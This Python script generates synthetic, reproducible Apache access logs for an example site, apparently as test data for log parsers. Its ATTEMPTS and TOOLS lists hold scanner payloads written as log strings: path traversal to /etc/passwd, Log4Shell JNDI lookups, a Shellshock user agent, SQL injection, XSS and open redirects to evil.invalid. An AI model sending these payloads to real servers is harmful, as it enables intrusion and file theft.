#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Writes an access log in Apache's combined format, like that of a public site.

    generate-log.py [--seed N] [--lines N] > access.log

The same seed gives the same bytes, everywhere and with every python3: all
random numbers are derived from random.Random(seed).random(), the one method
whose sequence Python promises to keep, and nothing depends on hashing, the clock
or the locale. A longer log begins with the shorter one.

No name or address in it belongs to anybody: example.org and the like, names
under .example, .test and .invalid (RFC 2606), 192.0.2.0/24, 198.51.100.0/24
and 203.0.113.0/24 (RFC 5737), 2001:db8::/32 (RFC 3849).

The contents of the lines, in per cent of lines
    visitor     people 60, crawlers 20, feed readers 6, monitors 4, vulnerability
                scanners 8, users of open proxies 2; an average visitor returns
                many times, a few return very often
    client      IPv4 88, IPv6 12
    referer     people: none 25, the site itself 40, a search engine 17 (a long
                query, often with a whole percent-encoded URL), another site 15, a
                host given as an address 1, a punycoded name 2; vulnerability
                scanners: a shop 30, none 70; others: none
    target      people: pages 50, assets 35, searches 15 (with percent-encoding,
                sometimes invalid, and "+"); open proxies: an absolute URL or
                CONNECT; scanners: their attacks, such as "../", "%00", ldap://
                and php:// inside parameters, TLS on the plain port, no request
    user agent  browsers, and bots that give their address as "+http://…"
    bytes       in 4, the target and often the referer contain bytes that are not
                ASCII: UTF-8, Latin-1, truncated sequences, C1 controls
    escaping    98: Apache's, `\\"`, `\\\\`, `\\t` and `\\xHH` for each byte that
                is not printable ASCII; 2 (half of the above 4): none, as in
                logs of servers that write what they received
"""

import argparse
import random
import sys

SITE = "www.example.org"

MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun",
          "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
MONTH_DAYS = (31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31)

SECTIONS = ("articles", "archive", "guide", "notes", "wiki", "news", "talks",
            "people", "releases", "api/v1", "~lena", "docs/en")
TOPICS = ("tides", "lighthouses", "semaphore", "knots", "charts", "compass",
          "sextant", "buoys", "harbours", "signals", "rigging", "soundings",
          "chronometer", "meridian", "ephemeris", "fog-horns")
ENDINGS = ("", "/", ".html", ".htm", ".html", ".php", ".pdf", ";v=2", ".txt")
ASSETS = ("/style.css", "/css/print.css?v=20150323", "/js/site.min.js",
          "/js/map.js?callback=jQuery1110_1427151", "/favicon.ico",
          "/img/logo.png", "/img/logo@2x.png", "/img/header_(wide).jpg",
          "/fonts/serif.woff2?#iefix", "/robots.txt", "/feed.atom",
          "/img/a%20picture%20of%20a%20buoy.jpg",
          "/img/%D0%BC%D0%B0%D1%8F%D0%BA.png")
SEARCHES = ("light+houses", "knots%20for%20beginners", "caf%C3%A9", "100%",
            "%22lighthouse+keeper%22", "b%FCcher", "C%2B%2B", "a%26b%3Dc",
            "%E7%87%88%E5%8F%B0", "tide+table+[north]", "what|which", "50%+off",
            "%u0441%u0442", "it's", "", "%2525", "harbour&page=2&sort=-date")

ENGINES = ("www.search.example", "search.example.com", "suche.example",
           "m.search.example")
OTHERS = ("blog.example.net", "forum.example.com", "news.example.net:8080",
          "a-very-long-name-of-a-small-harbour-town.example", "x.test",
          "mirror.example.org", "user:pw@intranet.test", "social.example")
ADDRESSES = ("192.0.2.80", "[2001:db8::80]", "[2001:db8:0:1::c0:ffee]:8443",
             "198.51.100.7:8080")
NAMES = ("xn--bcher-kva.example", "xn--80ak6aa92e.example",
         "xn--nxasmq6b.example")
SHOPS = ("http://cheap-pills.invalid", "http://buy-watches.invalid/?aff=7",
         "http://seo-traffic.invalid/try.php?u=http://www.example.org",
         "https://casino.invalid/?utm_source=ref&utm_medium=spam")

BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) "
    "AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0; Touch)",
    "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1",
)
CRAWLERS = (
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot.html)",
    "Mozilla/5.0 (compatible; indexer/3.0; "
    "+https://index.example/?tab=about&lang=en)",
    "archiver/1.0 (+https://archive.example/details/bot; "
    "mailto:crawl@archive.example)",
    "Mozilla/5.0 (compatible; seek/1.1; http://www.seek.example/robot)",
)
READERS = (
    "FeedReader/4.2 (http://feeds.example.net/; 12 subscribers)",
    "planet/2.0 +http://planet.example/",
)
MONITORS = ("uptime-check/1.4 (https://status.example)", "curl/7.88.1",
            "Go-http-client/1.1")
TOOLS = ("-", "python-requests/2.31.0", "Mozilla/5.0 zgrab/0.x",
         "() { :; }; /bin/ping -c 1 198.51.100.66",
         "${jndi:ldap://198.51.100.66:1389/a}", "sqlmap/1.7 (https://x.invalid)",
         "Mozilla/5.0 \"quoted\" \\ back\tslash")
ATTEMPTS = (
    "GET /wp-login.php HTTP/1.1",
    "POST /xmlrpc.php HTTP/1.1",
    "GET /../../../../etc/passwd HTTP/1.0",
    "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
    "GET /index.php?page=php://filter/convert.base64-encode/resource=index "
    "HTTP/1.1",
    "GET /?x=${jndi:ldap://198.51.100.66/Exploit} HTTP/1.1",
    "GET /view?src=file:///etc/passwd%00.png HTTP/1.1",
    "GET /login?next=//evil.invalid/%2e%2e HTTP/1.1",
    "GET /redirect?to=https://www.example.org@evil.invalid/ HTTP/1.1",
    "GET /?id=1'%20OR%20'1'='1 HTTP/1.1",
    "GET /<script>alert(1)</script> HTTP/1.1",
    "GET /?q=\"><img%20src=http://evil.invalid/x.js> HTTP/1.1",
    "OPTIONS * HTTP/1.1",
    "\x16\x03\x01\x02",
    "-",
)
ABSOLUTE = (
    "GET http://www.example.net/ HTTP/1.1",
    "GET http://judge.example/azenv.php?t=1427151 HTTP/1.1",
    "GET https://user:secret@api.example.com:8443/v1/me HTTP/1.1",
    "POST http://[2001:db8::25]:25/ HTTP/1.1",
    "GET ftp://ftp.example.net/pub/README;type=a HTTP/1.0",
    "CONNECT mail.example.net:25 HTTP/1.1",
)
# Bytes that are not ASCII, as clients send them: UTF-8, Latin-1, a truncated
# sequence, stray bytes, quotation marks. Apache escapes them. Host names of this kind
# appear only where nothing is escaped, since browsers send punycode.
BYTES_PATHS = (b"/wiki/Caf\xc3\xa9", b"/wiki/Caf\xe9", b"/wiki/\xe7\x87\x88\xe5",
               b"/wiki/\x80\xff", b"/wiki/\xe2\x80\x9cknots\xe2\x80\x9d",
               b"/wiki/\xd0\xbc\xd0\xb0\xd1\x8f\xd0\xba?\xd1\x8f=1")
BYTES_NAMES = (b"b\xc3\xbccher.example", b"\xe7\x87\x88\xe5\x8f\xb0.example",
               b"\xd0\xbc\xd0\xb0\xd1\x8f\xd0\xba.example")


class Dice:
    """Random numbers that are the same with every python3."""

    def __init__(self, seed):
        self.random = random.Random(seed).random

    def below(self, n):
        return int(self.random() * n)

    def percent(self, n):
        return self.random() * 100 < n

    def pick(self, items):
        return items[int(self.random() * len(items))]

    def often_low(self, n):
        """A number below n; lower ones are more frequent."""
        chance = self.random()
        return int(chance * chance * chance * n)

    def share(self, *parts):
        """The index of a random part; the weights of the parts add up to 100."""
        left = self.random() * 100
        for i, weight in enumerate(parts):
            left -= weight
            if left < 0:
                return i
        return len(parts) - 1


class Clock:
    """The time of a line, in UTC, which advances by seconds."""

    def __init__(self):
        self.year, self.month, self.day = 2024, 10, 6
        self.second = 4 * 3600

    def tick(self, seconds):
        self.second += seconds
        while self.second >= 86400:
            self.second -= 86400
            self.day += 1
            leap = self.month == 1 and self.year % 4 == 0
            if self.day > MONTH_DAYS[self.month] + leap:
                self.day = 1
                self.month = (self.month + 1) % 12
                self.year += self.month == 0

    def __str__(self):
        return (f"{self.day:02}/{MONTHS[self.month]}/{self.year}:"
                f"{self.second // 3600:02}:{self.second // 60 % 60:02}:"
                f"{self.second % 60:02} +0000")


def client(dice):
    number = dice.often_low(600)
    if number % 8 == 7:
        return f"2001:db8:{number % 5:x}:{number:x}::{number * 7919 % 65536:x}"
    net = ("192.0.2", "198.51.100", "203.0.113")[number % 3]
    return f"{net}.{1 + number * 31 % 254}"


def page(dice):
    section = dice.pick(SECTIONS)
    topic = dice.pick(TOPICS)
    ending = dice.pick(ENDINGS)
    if dice.percent(20):
        return f"/{section}/"
    if dice.percent(15):
        return f"/{section}/{1998 + dice.below(27)}/{topic}{ending}"
    return f"/{section}/{topic}{ending}"


def search(dice):
    form = dice.share(60, 25, 15)
    if form == 0:
        return f"/search?q={dice.pick(SEARCHES)}"
    if form == 1:
        return (f"/search?q={dice.pick(SEARCHES)}"
                f"&lang=en&page={1 + dice.below(9)}")
    return f"/map?bbox={dice.below(180)},-{dice.below(90)}.5&z={dice.below(18)}"


def percent_encode(text):
    """Percent-encodes a text as a search engine encodes a URL in a parameter."""
    plain = ("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
             "0123456789-._~")
    return "".join(c if c in plain else f"%{ord(c):02X}" for c in text)


def token(dice, length):
    letters = ("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
               "0123456789-_")
    made = ""
    while len(made) < length:
        number = dice.below(1 << 48)        # eight letters at a time
        for _ in range(8):
            made += letters[number & 63]
            number >>= 6
    return made[:length]


def referer(dice):
    kind = dice.share(25, 40, 17, 15, 1, 2)
    if kind == 0:
        return "-"
    scheme = "https" if dice.percent(60) else "http"
    if kind == 1:
        return f"{scheme}://{SITE}{page(dice)}"
    if kind == 2:
        engine = dice.pick(ENGINES)
        query = dice.pick(SEARCHES)
        if dice.percent(40):
            return f"{scheme}://{engine}/search?q={query}&hl=en"
        target = percent_encode(f"http://{SITE}{page(dice)}")
        return (f"{scheme}://{engine}/url?sa=t&rct=j&q={query}&cd="
                f"{1 + dice.below(10)}&ved={token(dice, 9)}&url={target}"
                f"&ei={token(dice, 22)}&usg={token(dice, 34)}")
    if kind == 3:
        host = dice.pick(OTHERS)
        if dice.percent(20):
            return f"{scheme}://{host}"
        if dice.percent(20):
            return f"{scheme}://{host}/t/{dice.below(9999)}?u={token(dice, 6)}#c"
        return f"{scheme}://{host}{page(dice)}"
    if kind == 4:
        return f"http://{dice.pick(ADDRESSES)}{page(dice)}"
    return f"{scheme}://{dice.pick(NAMES)}{page(dice)}"


def visit(dice):
    """A request: its line, status, size, referer and user agent."""
    kind = dice.share(60, 20, 6, 4, 8, 2)
    size = 200 + dice.often_low(180000)
    if kind == 0:
        target = (page, lambda d: d.pick(ASSETS), search)[
            dice.share(50, 35, 15)](dice)
        status = (200, 304, 301, 404, 206)[dice.share(78, 12, 3, 6, 1)]
        protocol = "HTTP/2.0" if dice.percent(45) else "HTTP/1.1"
        method = "POST" if dice.percent(3) else "GET"
        return (f"{method} {target} {protocol}", status, size,
                referer(dice), dice.pick(BROWSERS))
    if kind == 1:
        target = "/robots.txt" if dice.percent(10) else page(dice)
        return (f"GET {target} HTTP/1.1", 200, size, "-", dice.pick(CRAWLERS))
    if kind == 2:
        return ("GET /feed.atom HTTP/1.1", 304 if dice.percent(70) else 200,
                size, "-", dice.pick(READERS))
    if kind == 3:
        return ("HEAD / HTTP/1.1", 200, 0, "-", dice.pick(MONITORS))
    if kind == 4:
        request = dice.pick(ATTEMPTS)
        status = (404, 400, 403, 200)[dice.share(60, 20, 15, 5)]
        status = {"-": 408, "\x16\x03\x01\x02": 400}.get(request, status)
        source = dice.pick(SHOPS) if dice.percent(30) else "-"
        return (request, status, dice.below(600), source, dice.pick(TOOLS))
    return (dice.pick(ABSOLUTE), 405, dice.below(600), "-", dice.pick(TOOLS))


def apache(data):
    """Escapes a field as mod_log_config does."""
    written = bytearray()
    for byte in data:
        named = {0x22: b'\\"', 0x5c: b"\\\\", 0x09: b"\\t"}.get(byte)
        if named:
            written += named
        elif 0x20 <= byte < 0x7f:
            written.append(byte)
        else:
            written += b"\\x%02x" % byte
    return bytes(written)


class Request:
    """A request and its response, as a server logs them."""

    def __init__(self, dice, clock):
        clock.tick(dice.often_low(90))
        self.client = client(dice)
        line, self.status, self.size, source, agent = visit(dice)
        self.line, self.referer, self.agent = (field.encode() for field in (line, source, agent))
        self.written_raw = False
        how = dice.share(96, 2, 2)
        if how:
            self.line = b"GET " + dice.pick(BYTES_PATHS) + b" HTTP/1.1"
            if dice.percent(50):
                name = dice.pick(BYTES_NAMES) if how == 2 else SITE.encode()
                self.referer = b"http://" + name + dice.pick(BYTES_PATHS)
            self.agent = dice.pick(BROWSERS).encode()
            self.status = 200
            self.written_raw = how == 2
        self.user = "lena" if b"/~lena/" in self.line and dice.percent(30) else "-"


def combined(request, clock):
    fields = [request.line, request.referer, request.agent]
    if not request.written_raw:
        fields = [apache(field) for field in fields]
    written = "-" if request.size == 0 or request.status == 304 else str(request.size)
    return b'%s - %s [%s] "%s" %d %s "%s" "%s"\n' % (
        request.client.encode(), request.user.encode(), str(clock).encode(), fields[0],
        request.status, written.encode(), fields[1], fields[2])


def main():
    parser = argparse.ArgumentParser(
        description="Writes a realistic access log, the same for a same seed.")
    parser.add_argument("--seed", type=int, default=1738)
    parser.add_argument("--lines", type=int, default=200)
    options = parser.parse_args()

    dice = Dice(options.seed)
    clock = Clock()
    for _ in range(options.lines):
        sys.stdout.buffer.write(combined(Request(dice, clock), clock))


if __name__ == "__main__":
    main()
